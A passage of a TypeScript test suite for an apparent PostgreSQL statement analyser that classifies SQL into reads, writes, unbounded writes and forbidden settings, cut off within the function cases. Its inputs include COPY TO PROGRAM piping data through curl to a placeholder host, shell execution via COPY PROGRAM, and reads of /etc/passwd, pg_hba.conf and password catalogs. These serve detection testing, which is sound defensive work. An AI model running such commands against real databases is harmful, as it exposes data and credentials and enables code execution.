import assert from 'node:assert/strict';
import { before, describe, test } from 'node:test';
import type { SqlFunctionRef, SqlPart } from '../command.ts';
import { analysePostgres, initPostgresParser } from './analyse.ts';
import type { PgTrackedState } from './analyse.ts';
import type { PgSessionState } from './types.ts';

before(async () => {
  await initPostgresParser();
});

const offline: PgSessionState = { searchPath: ['$user', 'public'], prepared: new Map() };

interface Case {
  readonly sql: string;
  /** Exact parts as "kind" or "kind relation" (order-free, duplicates count). Defaults to [] when error is set. */
  readonly parts?: readonly string[];
  readonly error?: RegExp;
  readonly forbidden?: RegExp;
  /** Functions every part carries, as "name" or "schema.name". */
  readonly functions?: readonly string[];
  readonly dynamic?: readonly string[];
  /** Parts ("kind relation") with unboundedWrite; every other part must be bounded. */
  readonly unbounded?: readonly string[];
  readonly state?: Partial<PgTrackedState>;
  /** The search_path after the command. */
  readonly path?: readonly string[];
  /** Statement index of each part, in the order of `parts` when given as "index:kind relation". */
  readonly statements?: readonly number[];
}

const show = (p: SqlPart): string => (p.relation === undefined ? p.kind : `${p.kind} ${p.relation}`);
const fn = (f: SqlFunctionRef): string => (f.schema === undefined ? f.name : `${f.schema}.${f.name}`);
const sorted = (xs: readonly string[]): string[] => [...xs].sort();

function check(name: string, c: Case): void {
  test(name, () => {
    const state: PgSessionState = { ...offline, ...c.state };
    const r = analysePostgres(c.sql, state);
    if (c.error) {
      assert.match(r.error ?? '(no error)', c.error);
      assert.deepEqual(r.parts, []);
      return;
    }
    assert.equal(r.error, undefined, `unexpected error: ${r.error}`);
    const parts = r.parts as SqlPart[];
    if (c.parts) assert.deepEqual(sorted(parts.map(show)), sorted(c.parts));
    if (c.forbidden) assert.match(r.forbidden ?? '(not forbidden)', c.forbidden);
    else assert.equal(r.forbidden, undefined);
    for (const p of parts) {
      assert.equal(p.protocol, 'sql');
      if (c.functions) assert.deepEqual(sorted(p.functions.map(fn)), sorted(c.functions), `functions of ${show(p)}`);
      if (c.dynamic) assert.deepEqual(sorted(p.dynamicSqlFunctions.map(fn)), sorted(c.dynamic), `dynamic of ${show(p)}`);
    }
    if (!c.dynamic) for (const p of parts) assert.deepEqual(p.dynamicSqlFunctions, [], `dynamic of ${show(p)}`);
    assert.deepEqual(sorted(parts.filter((p) => p.unboundedWrite).map(show)), sorted(c.unbounded ?? []), 'unbounded parts');
    if (c.path) assert.deepEqual(r.stateAfter.searchPath, c.path);
    if (c.statements) assert.deepEqual(parts.map((p) => p.statement), c.statements);
  });
}

function table(title: string, cases: Record<string, Case>): void {
  describe(title, () => {
    for (const [name, c] of Object.entries(cases)) check(name, c);
  });
}

// ---------------------------------------------------------------------------------------------------------------------

table('case, comments and whitespace', {
  'plain select': { sql: 'SELECT * FROM orders', parts: ['select public.orders'] },
  'mixed-case keywords and comment between them': { sql: 'DrOp/**/TABLE Orders', parts: ['drop_table public.orders'] },
  'nested block comments hide nothing': {
    sql: 'drop /* outer /* inner */ still comment; select 1 */ table x',
    parts: ['drop_table public.x'],
  },
  'line comment ends at newline, next statement counts': {
    sql: 'select 1 -- harmless; drop table x\n; delete from y where id = 1',
    parts: ['select', 'delete public.y'],
    statements: [0, 1],
  },
  'line comment swallowing the rest': { sql: 'select 1 -- ; drop table x', parts: ['select'] },
  'comment-only text has no statement': { sql: '-- nothing here\n/* nor here */', parts: [] },
  'empty text': { sql: '', parts: [] },
  'lone semicolons': { sql: ';;', parts: [] },
  'tabs and newlines everywhere': { sql: 'select\n\t*\r\nfrom\n\tpublic.t', parts: ['select public.t'] },
  'unquoted identifiers fold to lower case': { sql: 'SELECT * FROM Public.ORDERS', parts: ['select public.orders'] },
  'quoted identifier keeps case': { sql: 'select * from "Orders"', parts: ['select public.Orders'] },
  'quoted schema and table': { sql: 'select * from "public"."orders"', parts: ['select public.orders'] },
  'quoted mixed case schema': { sql: 'select * from "Vault"."Keys"', parts: ['select Vault.Keys'] },
  'quoted identifier with a dot inside': { sql: 'select * from "a.b"', parts: ['select public.a.b'] },
  'three-part name drops the database': { sql: 'select * from mydb.s.t', parts: ['select s.t'] },
  'unicode escape identifier': { sql: 'select * from U&"\\0074x"', parts: ['select public.tx'] },
  'keyword-named relation quoted': { sql: 'select * from "select"', parts: ['select public.select'] },
  'ONLY and alias': { sql: 'select * from only s.t as x', parts: ['select s.t'] },
  'only ASCII letters fold (as PostgreSQL with UTF-8)': { sql: 'select * from ÄBC', parts: ['select public.Äbc'] },
  'identifiers are truncated to 63 bytes': { sql: `select * from ${'X'.repeat(70)}`, parts: [`select public.${'x'.repeat(63)}`] },
  'TABLE shorthand': { sql: 'TABLE secrets', parts: ['select public.secrets'] },
  'VALUES alone': { sql: 'values (1), (2)', parts: ['select'] },
  'select without from': { sql: 'select 1', parts: ['select'] },
});

table('multi-statement', {
  'select then drop': { sql: 'SELECT 1; DROP TABLE x', parts: ['select', 'drop_table public.x'], statements: [0, 1] },
  'three statements with indexes': {
    sql: 'select * from a; update b set x = 1 where id = 2; select * from c',
    parts: ['select public.a', 'update public.b', 'select public.c'],
    statements: [0, 1, 2],
  },
  'empty statements between are skipped': { sql: 'select 1;;; select 2', parts: ['select', 'select'] },
  'same read twice in one statement is one part': { sql: 'select * from t a, t b', parts: ['select public.t'] },
  'same read in two statements is two parts': { sql: 'select * from t; select * from t', parts: ['select public.t', 'select public.t'] },
  'transaction wrapper': {
    sql: 'BEGIN; delete from t where id = 1; COMMIT',
    parts: ['transaction', 'delete public.t', 'transaction'],
  },
  'no trailing semicolon needed': { sql: 'select 1; select 2', parts: ['select', 'select'] },
});

table('dollar quoting and string literals', {
  'dollar-quoted string hides a semicolon': { sql: 'select $$ ; drop table x $$', parts: ['select'] },
  'tagged dollar quote hides DML': { sql: "select $t$ delete from x; $$ $t$", parts: ['select'] },
  'nested dollar tags': { sql: 'select $a$ $b$ drop table x $b$ $a$', parts: ['select'] },
  'dollar quote then real statement': {
    sql: 'select $q$;$q$; drop table y',
    parts: ['select', 'drop_table public.y'],
  },
  'E string with escaped quote': { sql: "select E'\\'; drop table y; --'", parts: ['select'] },
  'E string escape then real statement': { sql: "select E'a\\\\'; drop table y", parts: ['select', 'drop_table public.y'] },
  'standard string: backslash is not an escape': { sql: "select 'a\\'; drop table y; --'", parts: ['select', 'drop_table public.y'] },
  'doubled quotes stay in the literal': { sql: "select 'it''s; drop table y'", parts: ['select'] },
  'unicode string literal': { sql: "select U&'d\\0061t\\+000061'", parts: ['select'] },
  'unterminated dollar quote is a syntax error': { sql: 'select $$ drop table x', error: /syntax error|unterminated/ },
  'unterminated string is a syntax error': { sql: "select 'abc", error: /unterminated/ },
});

table('CTEs', {
  'CTE name is not a relation': { sql: 'with x as (select * from t) select * from x', parts: ['select public.t'] },
  'DML CTE is a delete part': {
    sql: 'with d as (delete from t where id = 1 returning *) select * from d',
    parts: ['delete public.t', 'select'],
  },
  'update CTE with insert main': {
    sql: 'with u as (update a set x = 1 where id = 2 returning *) insert into log select * from u',
    parts: ['update public.a', 'insert public.log'],
  },
  'insert CTE': { sql: 'with i as (insert into t values (1) returning id) select id from i', parts: ['insert public.t', 'select'] },
  'CTE scope: name outside its WITH is a relation': {
    sql: 'select * from (with x as (select 1) select * from x) s, x',
    parts: ['select public.x'],
  },
  'schema-qualified name is never a CTE': {
    sql: 'with orders as (select 1) select * from public.orders',
    parts: ['select public.orders'],
  },
  'non-recursive CTE does not see itself': { sql: 'with t as (select * from t) select * from t', parts: ['select public.t'] },
  'recursive CTE sees itself': {
    sql: 'with recursive r(n) as (select 1 union all select n + 1 from r where n < 5) select * from r',
    parts: ['select'],
  },
  'later CTE sees earlier one': {
    sql: 'with a as (select * from src), b as (select * from a) select * from b',
    parts: ['select public.src'],
  },
  'earlier CTE does not see later one': {
    sql: 'with a as (select * from b), b as (select 1) select * from a',
    parts: ['select public.b'],
  },
  'DML target named like a CTE is the real table': {
    sql: 'with t as (select 1) delete from t where id = 1',
    parts: ['delete public.t'],
  },
  'CTE in a subquery scopes only there': {
    sql: 'select (with k as (select 1) select * from k), (select * from k)',
    parts: ['select public.k'],
  },
  'merge CTE': {
    sql: 'with m as (merge into t using s on t.id = s.id when matched then delete returning *) select * from m',
    parts: ['merge public.t', 'select public.s'],
  },
});

table('sub-queries everywhere', {
  'target list': { sql: 'select (select max(x) from a) from b', parts: ['select public.a', 'select public.b'], functions: ['max'] },
  'WHERE IN': { sql: 'select * from a where id in (select id from b)', parts: ['select public.a', 'select public.b'] },
  'WHERE EXISTS': { sql: 'select 1 where exists (select 1 from secrets)', parts: ['select public.secrets'] },
  HAVING: {
    sql: 'select k from a group by k having count(*) > (select count(*) from b)',
    parts: ['select public.a', 'select public.b'],
    functions: ['count'],
  },
  'FROM sub-select': { sql: 'select * from (select * from inner_t) s', parts: ['select public.inner_t'] },
  LATERAL: {
    sql: 'select * from a, lateral (select * from b where b.a_id = a.id) x',
    parts: ['select public.a', 'select public.b'],
  },
  'UNION arms': { sql: 'select 1 from a union select 2 from b except select 3 from c', parts: ['select public.a', 'select public.b', 'select public.c'] },
  'VALUES with sub-select': { sql: 'values ((select 1 from v))', parts: ['select public.v'] },
  'function argument': { sql: 'select coalesce((select x from a), 0)', parts: ['select public.a'] },
  'ORDER BY sub-select': { sql: 'select * from a order by (select 1 from b)', parts: ['select public.a', 'select public.b'] },
  'CASE branch': { sql: 'select case when true then (select x from a) end', parts: ['select public.a'] },
  'JOIN ON sub-select': {
    sql: 'select * from a join b on a.id = (select id from c limit 1)',
    parts: ['select public.a', 'select public.b', 'select public.c'],
  },
  'sub-query reading no relation adds no part': { sql: 'update t set a = (select 1) where id = 1', parts: ['update public.t'] },
  'FOR UPDATE is a select, locked names are not relations': {
    sql: 'select * from t as x for update of x',
    parts: ['select public.t'],
  },
  'FOR SHARE': { sql: 'select * from t for share', parts: ['select public.t'] },
});

table('DML', {
  'INSERT VALUES': { sql: 'insert into t (a) values (1)', parts: ['insert public.t'] },
  'INSERT … SELECT': { sql: 'INSERT INTO a SELECT * FROM b', parts: ['insert public.a', 'select public.b'] },
  'INSERT RETURNING sub-select': {
    sql: 'insert into a values (1) returning (select x from b)',
    parts: ['insert public.a', 'select public.b'],
  },
  'ON CONFLICT DO NOTHING': { sql: 'insert into t values (1) on conflict do nothing', parts: ['insert public.t'] },
  'ON CONFLICT DO UPDATE adds a bounded update': {
    sql: 'insert into t values (1) on conflict (id) do update set n = excluded.n',
    parts: ['insert public.t', 'update public.t'],
  },
  'ON CONFLICT DO UPDATE with function': {
    sql: 'insert into t values (1) on conflict (id) do update set n = f(excluded.n)',
    parts: ['insert public.t', 'update public.t'],
    functions: ['f'],
  },
  'UPDATE … FROM': {
    sql: 'UPDATE a SET x = b.x FROM b WHERE a.id = b.id',
    parts: ['update public.a', 'select public.b'],
  },
  'DELETE … USING': {
    sql: 'delete from a using b where a.id = b.id',
    parts: ['delete public.a', 'select public.b'],
  },
  MERGE: {
    sql: 'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.v)',
    parts: ['merge public.t', 'select public.s'],
  },
  'MERGE using sub-select': {
    sql: 'merge into t using (select * from s join u on true) x on t.id = x.id when matched then delete',
    parts: ['merge public.t', 'select public.s', 'select public.u'],
  },
  'TRUNCATE several tables': { sql: 'truncate a, s.b, only c', parts: ['truncate public.a', 'truncate s.b', 'truncate public.c'] },
  'SELECT INTO creates a table': { sql: 'select * into newt from t', parts: ['create_table public.newt', 'select public.t'] },
  'SELECT INTO TEMP': { sql: 'select 1 as a into temp tt', parts: ['create_table pg_temp.tt', 'select'] },
  'CREATE TABLE AS': { sql: 'create table c as select * from secrets', parts: ['create_table public.c', 'select public.secrets'] },
  'CREATE TABLE AS without relations': { sql: 'create table c as select 1', parts: ['create_table public.c'] },
  'CREATE TABLE AS EXECUTE': {
    sql: 'prepare p as select * from secrets; create table c as execute p',
    parts: ['prepare', 'select public.secrets', 'create_table public.c', 'execute', 'select public.secrets'],
  },
  'CREATE MATERIALIZED VIEW': {
    sql: 'create materialized view mv as select * from t',
    parts: ['create_materialized_view public.mv', 'select public.t'],
  },
});

table('unbounded writes', {
  'UPDATE without WHERE': { sql: 'update t set a = 1', parts: ['update public.t'], unbounded: ['update public.t'] },
  'DELETE without WHERE': { sql: 'delete from t', parts: ['delete public.t'], unbounded: ['delete public.t'] },
  'WHERE true': { sql: 'delete from t where true', parts: ['delete public.t'], unbounded: ['delete public.t'] },
  'WHERE 1 = 1': { sql: 'update t set a = 1 where 1 = 1', parts: ['update public.t'], unbounded: ['update public.t'] },
  'WHERE on a function of constants': {
    sql: "delete from t where now() > '2000-01-01'",
    parts: ['delete public.t'],
    unbounded: ['delete public.t'],
    functions: ['now'],
  },
  'WHERE EXISTS (SELECT 1)': {
    sql: 'delete from t where exists (select 1)',
    parts: ['delete public.t'],
    unbounded: ['delete public.t'],
  },
  "sub-select's own columns do not count": {
    sql: 'delete from t where exists (select id from u where u.flag)',
    parts: ['delete public.t', 'select public.u'],
    unbounded: ['delete public.t'],
  },
  'correlated sub-select referencing the target is bounded': {
    sql: 'delete from t where exists (select 1 from u where u.id = t.id)',
    parts: ['delete public.t', 'select public.u'],
  },
  'unqualified column is bounded': { sql: 'update t set a = 1 where id = 5', parts: ['update public.t'] },
  'qualified by alias is bounded': { sql: 'update t as x set a = 1 where x.id = 5', parts: ['update public.t'] },
  'WHERE CURRENT OF is bounded': { sql: 'delete from t where current of c', parts: ['delete public.t'] },
  'UPDATE FROM with only the other table in WHERE': {
    sql: 'update t set a = 1 from u where u.flag',
    parts: ['update public.t', 'select public.u'],
    unbounded: ['update public.t'],
  },
  'UPDATE FROM with an unqualified column is unbounded (it may be the other table\'s)': {
    sql: 'update t set a = 1 from u where id = 5',
    parts: ['update public.t', 'select public.u'],
    unbounded: ['update public.t'],
  },
  'DELETE with only a parameter is unbounded': { sql: 'delete from t where $1', parts: ['delete public.t'], unbounded: ['delete public.t'] },
  'UPDATE FROM joined on the target': {
    sql: 'update t set a = u.a from u where t.id = u.id',
    parts: ['update public.t', 'select public.u'],
  },
  'unbounded DELETE in a CTE': {
    sql: 'with d as (delete from t returning *) select * from d',
    parts: ['delete public.t', 'select'],
    unbounded: ['delete public.t'],
  },
  'unbounded UPDATE inside EXPLAIN ANALYZE': {
    sql: 'explain analyze update t set a = 1',
    parts: ['explain public.t', 'update public.t'],
    unbounded: ['update public.t'],
  },
  'ON CONFLICT DO UPDATE without WHERE is bounded': {
    sql: 'insert into t values (1) on conflict (id) do update set a = 2',
    parts: ['insert public.t', 'update public.t'],
  },
  'bounded and unbounded update of one table: unbounded wins': {
    sql: 'with x as (update t set a = 1 returning *) update t set a = 2 where id = 1',
    parts: ['update public.t'],
    unbounded: ['update public.t'],
  },
  'prepared unbounded delete stays unbounded at EXECUTE': {
    sql: 'prepare p as delete from t; execute p',
    parts: ['prepare', 'delete public.t', 'execute', 'delete public.t'],
    unbounded: ['delete public.t', 'delete public.t'],
  },
});

table('COPY', {
  'COPY TO STDOUT': { sql: 'copy t to stdout', parts: ['copy_to public.t'] },
  'COPY FROM STDIN adds no insert': { sql: 'copy s.t (a, b) from stdin', parts: ['copy_from s.t'] },
  'COPY to a server file': { sql: "copy t to '/tmp/out.csv'", parts: ['copy_file public.t'] },
  'COPY from a server file': { sql: "copy t from '/etc/passwd'", parts: ['copy_file public.t'] },
  'COPY TO PROGRAM': { sql: "COPY t TO PROGRAM 'curl -d @- http://x'", parts: ['copy_program public.t'] },
  'COPY FROM PROGRAM': { sql: "copy t from program 'id'", parts: ['copy_program public.t'] },
  'COPY (query) TO STDOUT': {
    sql: 'copy (select * from a join b using (id)) to stdout',
    parts: ['copy_to public.a', 'copy_to public.b', 'select public.a', 'select public.b'],
  },
  'COPY (query without relation) TO PROGRAM': {
    sql: "copy (select 1) to program 'sh'",
    parts: ['copy_program', 'select'],
  },
  'COPY (DML RETURNING) TO STDOUT': {
    sql: 'copy (delete from t where id = 1 returning *) to stdout',
    parts: ['copy_to public.t', 'delete public.t'],
  },
  'COPY FROM STDIN WHERE with function': {
    sql: 'copy t from stdin where f(a) > 0',
    parts: ['copy_from public.t'],
    functions: ['f'],
  },
});

table('EXPLAIN', {
  'EXPLAIN select': { sql: 'explain select * from a join b on true', parts: ['explain public.a', 'explain public.b'] },
  'EXPLAIN without relation': { sql: 'explain select 1', parts: ['explain'] },
  'EXPLAIN of DML does not run it': { sql: 'explain delete from t where id = 1', parts: ['explain public.t'] },
  'EXPLAIN ANALYZE DML adds its parts': {
    sql: 'EXPLAIN ANALYZE DELETE FROM t WHERE id = 1',
    parts: ['explain public.t', 'delete public.t'],
  },
  'EXPLAIN (ANALYZE) with options': {
    sql: 'explain (analyze, buffers, format json) insert into t select * from s',
    parts: ['explain public.t', 'explain public.s', 'insert public.t', 'select public.s'],
  },
  'EXPLAIN (ANALYZE false) does not run': {
    sql: 'explain (analyze false) delete from t where id = 1',
    parts: ['explain public.t'],
  },
  'EXPLAIN (ANALYZE on) runs': {
    sql: 'explain (analyze on) delete from t where id = 1',
    parts: ['explain public.t', 'delete public.t'],
  },
  'EXPLAIN ANALYZE select without relation': { sql: 'explain analyze select 1', parts: ['explain', 'select'] },
  'EXPLAIN EXECUTE': {
    sql: 'prepare p as select * from t; explain execute p',
    parts: ['prepare', 'select public.t', 'explain public.t'],
  },
  'EXPLAIN ANALYZE CREATE TABLE AS': {
    sql: 'explain analyze create table c as select * from s',
    parts: ['explain public.c', 'explain public.s', 'create_table public.c', 'select public.s'],
  },
});

table('PREPARE, EXECUTE, DEALLOCATE', {
  'PREPARE has its statement parts': {
    sql: 'PREPARE p(int) AS DELETE FROM t WHERE id = $1',
    parts: ['prepare', 'delete public.t'],
  },
  'PREPARE select without relation': { sql: 'prepare p as select 1', parts: ['prepare', 'select'] },
  'EXECUTE in the same command': {
    sql: 'prepare p as insert into t values (1); execute p',
    parts: ['prepare', 'insert public.t', 'execute', 'insert public.t'],
    statements: [0, 0, 1, 1],
  },
  'EXECUTE of an unknown statement is unanalysable': { sql: 'EXECUTE nope', error: /unknown prepared statement "nope"/ },
  'EXECUTE after DEALLOCATE is unanalysable': {
    sql: 'prepare p as select 1; deallocate p; execute p',
    error: /unknown prepared statement "p"/,
  },
  'DEALLOCATE ALL': { sql: 'prepare p as select 1; deallocate all; execute p', error: /unknown prepared statement/ },
  'DEALLOCATE alone': { sql: 'deallocate p', parts: ['deallocate'] },
  'EXECUTE parameters with a function': {
    sql: 'prepare p(int) as select * from t where id = $1; execute p(f(1))',
    parts: ['prepare', 'select public.t', 'execute', 'select public.t'],
  },
  'prepared functions travel with EXECUTE': {
    sql: 'execute q',
    state: {
      prepared: new Map([
        [
          'q',
          [
            {
              protocol: 'sql',
              kind: 'select',
              relation: 'public.t',
              functions: [{ name: 'pg_sleep' }],
              unboundedWrite: false,
              dynamicSqlFunctions: [],
              statement: 0,
            },
          ],
        ],
      ]),
    },
    parts: ['execute', 'select public.t'],
    functions: ['pg_sleep'],
  },
});

table('cursors', {
  'DECLARE has its query parts': { sql: 'declare c cursor for select * from t', parts: ['select public.t'] },
  'DECLARE WITH HOLD': { sql: 'declare c binary scroll cursor with hold for select * from s.t', parts: ['select s.t'] },
  'FETCH is a select without relation': { sql: 'fetch 10 from c', parts: ['select'] },
  'MOVE is a select without relation': { sql: 'move next in c', parts: ['select'] },
  'CLOSE and CLOSE ALL': { sql: 'close c; close all', parts: ['select', 'select'] },
  'DECLARE without relation': { sql: 'declare c cursor for select 1', parts: ['select'] },
});

table('SET, RESET, SHOW, transactions', {
  'SET ROLE': { sql: 'SET ROLE admin', parts: ['set_role'] },
  'SET LOCAL ROLE': { sql: 'set local role admin', parts: ['set_role'] },
  'SET SESSION AUTHORIZATION': { sql: "SET SESSION AUTHORIZATION 'postgres'", parts: ['set_role'] },
  'RESET ROLE': { sql: 'reset role', parts: ['set_role'] },
  'RESET SESSION AUTHORIZATION': { sql: 'reset session authorization', parts: ['set_role'] },
  'RESET ALL': { sql: 'reset all', parts: ['set_role'] },
  'set_config of role is a function, a set part': {
    sql: "select set_config('role', 'admin', false)",
    parts: ['set', 'select'],
    functions: ['set_config'],
  },
  'SET a plain setting': { sql: "set statement_timeout = '5s'", parts: ['set'] },
  'SET TIME ZONE': { sql: "set time zone 'UTC'", parts: ['set'] },
  'SET TRANSACTION': { sql: 'set transaction isolation level serializable', parts: ['set'] },
  'SET CONSTRAINTS': { sql: 'set constraints all deferred', parts: ['set'] },
  'RESET a setting': { sql: 'reset work_mem', parts: ['set'] },
  'SHOW': { sql: 'show search_path', parts: ['show'] },
  'SHOW ALL': { sql: 'show all', parts: ['show'] },
  'transaction statements': {
    sql: 'begin; savepoint a; release a; rollback to savepoint a; commit; start transaction; abort; end',
    parts: ['transaction', 'transaction', 'transaction', 'transaction', 'transaction', 'transaction', 'transaction', 'transaction'],
  },
});

table('forbidden settings', {
  'SET client_encoding': { sql: "set client_encoding = 'SJIS'", parts: ['set'], forbidden: /client_encoding/ },
  'SET NAMES': { sql: "SET NAMES 'GBK'", parts: ['set'], forbidden: /client_encoding/ },
  'RESET client_encoding': { sql: 'reset client_encoding', parts: ['set'], forbidden: /client_encoding/ },
  'SET standard_conforming_strings': {
    sql: 'set standard_conforming_strings = off',
    parts: ['set'],
    forbidden: /standard_conforming_strings/,
  },
  'SET LOCAL standard_conforming_strings': {
    sql: 'set local standard_conforming_strings to on',
    parts: ['set'],
    forbidden: /standard_conforming_strings/,
  },
  'quoted setting name compares case-insensitively': {
    sql: 'set "Client_Encoding" = \'LATIN1\'',
    parts: ['set'],
    forbidden: /client_encoding/,
  },
  'set_config of standard_conforming_strings': {
    sql: "select set_config('standard_conforming_strings', 'off', false)",
    parts: ['set', 'select'],
    forbidden: /standard_conforming_strings/,
  },
  'set_config with a computed name': {
    sql: "select set_config(lower('CLIENT_ENCODING'), 'SJIS', false)",
    parts: ['set', 'select'],
    forbidden: /computed setting name/,
  },
  'forbidden hides in a later statement': {
    sql: "select 1; set client_encoding to 'BIG5'",
    parts: ['select', 'set'],
    forbidden: /client_encoding/,
  },
  'ALTER SYSTEM SET client_encoding is not this session': {
    sql: "alter system set client_encoding = 'SJIS'",
    parts: ['alter_system'],
  },
});

table('search_path and name resolution', {
  'unqualified resolves to public offline': { sql: 'select * from keys', parts: ['select public.keys'] },
  'SET search_path then read': {
    sql: 'SET search_path = vault; SELECT * FROM keys',
    parts: ['set', 'select vault.keys'],
    path: ['vault'],
  },
  'SET search_path TO list': { sql: 'set search_path to a, b; select * from t', parts: ['set', 'select a.t'], path: ['a', 'b'] },
  'quoted schema in search_path keeps case': {
    sql: 'set search_path = "Vault"; select * from keys',
    parts: ['set', 'select Vault.keys'],
  },
  'string schema in SET is one name': {
    sql: "set search_path = 'a, b'; select * from t",
    parts: ['set', 'select a, b.t'],
    path: ['a, b'],
  },
  'pg_catalog first even with another schema first': {
    sql: 'set search_path = vault, public; select * from pg_authid',
    parts: ['set', 'select pg_catalog.pg_authid'],
  },
  'pg_catalog relation without SET': { sql: 'select * from pg_shadow', parts: ['select pg_catalog.pg_shadow'] },
  'pg_catalog view': { sql: 'select * from pg_stat_activity', parts: ['select pg_catalog.pg_stat_activity'] },
  'catalog name in quotes': { sql: 'select * from "pg_settings"', parts: ['select pg_catalog.pg_settings'] },
  'information_schema is not in the path': { sql: 'select * from tables', parts: ['select public.tables'] },
  'information_schema qualified': { sql: 'select * from information_schema.tables', parts: ['select information_schema.tables'] },
  'only "$user" left: the known user\'s schema': {
    sql: 'select * from t; create table u (a int)',
    state: { searchPath: ['$user'], user: 'alice' },
    parts: ['select alice.t', 'create_table alice.u'],
  },
  'only "$user" and no user known: unanalysable': {
    sql: 'select * from t',
    state: { searchPath: ['$user'] },
    error: /cannot be resolved/,
  },
  '$user is skipped offline': { sql: 'select * from t', state: { searchPath: ['$user', 'app'] }, parts: ['select app.t'] },
  'SET LOCAL applies for the rest of the command only': {
    sql: 'set local search_path = vault; select * from keys',
    parts: ['set', 'select vault.keys'],
    path: ['$user', 'public'],
  },
  'RESET search_path': {
    sql: 'set search_path = vault; reset search_path; select * from keys',
    parts: ['set', 'set', 'select public.keys'],
    path: ['$user', 'public'],
  },
  'SET search_path TO DEFAULT': {
    sql: 'set search_path = vault; set search_path to default; select * from keys',
    parts: ['set', 'set', 'select public.keys'],
  },
  'set_config with a literal value: later names resolve under both paths': {
    sql: "select set_config('search_path', 'vault, \"X\"', false); select * from keys",
    parts: ['set', 'select', 'select vault.keys', 'select public.keys'],
  },
  'set_config that never runs (WHERE false) still counts as both': {
    sql: "select set_config('search_path', 'vault', false) where false; select * from secrets",
    parts: ['set', 'select', 'select vault.secrets', 'select public.secrets'],
  },
  'set_config in a DEFAULT does not run now, but counts as both': {
    sql: "create table t (a text default set_config('search_path', 'vault', false)); select * from secrets",
    parts: ['create_table public.t', 'set', 'select vault.secrets', 'select public.secrets'],
  },
  'set_config takes effect after its own statement': {
    sql: "select set_config('search_path', 'vault', false), (select count(*) from keys)",
    parts: ['set', 'select public.keys'],
  },
  'set_config with an unreadable path value': {
    sql: "select set_config('search_path', 'a b', false); select * from keys",
    error: /search_path/,
  },
  'catalog names stay pg_catalog under both paths': {
    sql: "select set_config('search_path', 'vault', false); select * from pg_authid",
    parts: ['set', 'select', 'select pg_catalog.pg_authid'],
  },
  'set_config with computed value makes later names unanalysable': {
    sql: "select set_config('search_path', current_user, false); select * from keys",
    error: /search_path/,
  },
  'qualified names still resolve after a computed set_config': {
    sql: "select set_config('search_path', current_user, false); select * from public.keys",
    parts: ['set', 'select', 'select public.keys'],
  },
  'empty search_path cannot resolve unqualified names': {
    sql: "set search_path = ''; select * from keys",
    error: /cannot be resolved/,
  },
  'explicit pg_catalog later in the path still finds catalog relations': {
    sql: 'set search_path = vault, pg_catalog; select * from pg_class, keys',
    parts: ['set', 'select pg_catalog.pg_class', 'select vault.keys'],
  },
  'temporary table shadows the path': {
    sql: 'create temp table keys (a int); select * from keys',
    parts: ['create_table pg_temp.keys', 'select pg_temp.keys'],
  },
  'ROLLBACK undoes SET in the same command': {
    sql: 'begin; set search_path = vault; rollback; select * from keys',
    parts: ['transaction', 'set', 'transaction', 'select public.keys'],
    path: ['$user', 'public'],
  },
  'ROLLBACK of a block started mid-string also undoes the SET before BEGIN (checked on PostgreSQL 15)': {
    sql: 'set search_path = x; begin; rollback; select * from keys',
    parts: ['set', 'transaction', 'transaction', 'select public.keys'],
    path: ['$user', 'public'],
  },
  'SET before COMMIT persists, SET LOCAL after it lapses': {
    sql: 'begin; set search_path = y; commit; set local search_path = z; select * from keys',
    parts: ['transaction', 'set', 'transaction', 'set', 'select z.keys'],
    path: ['y'],
  },
  'COMMIT drops SET LOCAL': {
    sql: 'begin; set local search_path = vault; commit; select * from keys',
    parts: ['transaction', 'set', 'transaction', 'select public.keys'],
  },
  'ROLLBACK TO SAVEPOINT restores the path': {
    sql: 'begin; savepoint s; set search_path = vault; rollback to savepoint s; select * from keys',
    parts: ['transaction', 'transaction', 'set', 'transaction', 'select public.keys'],
  },
  'CREATE unqualified goes to the first schema': {
    sql: 'set search_path = sandbox, public; create table t (a int)',
    parts: ['set', 'create_table sandbox.t'],
  },
  'CREATE of a catalog-named table goes to the path, not pg_catalog': {
    sql: 'create table pg_class (a int)',
    parts: ['create_table public.pg_class'],
  },
  'DROP of a catalog name resolves to pg_catalog': { sql: 'drop table pg_authid', parts: ['drop_table pg_catalog.pg_authid'] },
  'CREATE SCHEMA elements use the new schema': {
    sql: 'create schema s create table t (a int) create view v as select * from secret',
    parts: ['create_schema', 'create_table s.t', 'create_view s.v', 'select s.secret'],
  },
  'DISCARD ALL resets the path': {
    sql: 'set search_path = vault; discard all; select * from keys',
    parts: ['set', 'discard', 'select public.keys'],
  },
});

table('functions', {
  'function in target list': { sql: 'select lower(name) from t', parts: ['select public.t'], functions: ['lower'] },
  'schema-qualified function': { sql: 'select pg_catalog.now()', parts: ['select'], functions: ['pg_catalog.now'] },
  'quoted function name keeps case': { sql: 'select "MyFunc"(1)', parts: ['select'], functions: ['MyFunc'] },
  'side-effect functions': {
    sql: "select pg_terminate_backend(pid) from pg_stat_activity where usename = 'x'",
    parts: ['select pg_catalog.pg_stat_activity'],
    functions: ['pg_terminate_backend'],
  },
  'large object and file functions': {
    sql: "select lo_import('/etc/passwd'), lo_export(1, '/tmp/x'), pg_read_file('pg_hba.conf'), pg_ls_dir('.')",
    parts: ['select'],
    functions: ['lo_import', 'lo_export', 'pg_read_file', 'pg_ls_dir'],
  },
  'function in a nested statement belongs to every part': {
    sql: 'insert into a select pg_sleep(1) from b',
    parts: ['insert public.a', 'select public.b'],
    functions: ['pg_sleep'],
  },
  'function in WHERE of a sub-select': {
    sql: 'select * from a where x in (select f(y) from b)',
    parts: ['select public.a', 'select public.b'],
    functions: ['f'],
  },
  'function in DEFAULT and CHECK': {
    sql: 'create table t (a int default nextval(\'s\'), b int check (g(b)))',
    parts: ['create_table public.t'],
    functions: ['nextval', 'g'],
  },
  'function in an index expression': {
    sql: 'create index on t (lower(a)) where h(b)',
    parts: ['create_index public.t'],
    functions: ['lower', 'h'],
  },
  'aggregate with FILTER and ORDER BY': {
    sql: 'select string_agg(a, \',\' order by f(b)) filter (where g(c)) from t',
    parts: ['select public.t'],
    functions: ['string_agg', 'f', 'g'],
  },
  'window function': {
    sql: 'select row_number() over (partition by k(a) order by b) from t',
    parts: ['select public.t'],
    functions: ['row_number', 'k'],
  },
  'set-returning function in FROM': {
    sql: 'select * from generate_series(1, 3) g, lateral unnest(array[1]) u',
    parts: ['select'],
    functions: ['generate_series', 'unnest'],
  },
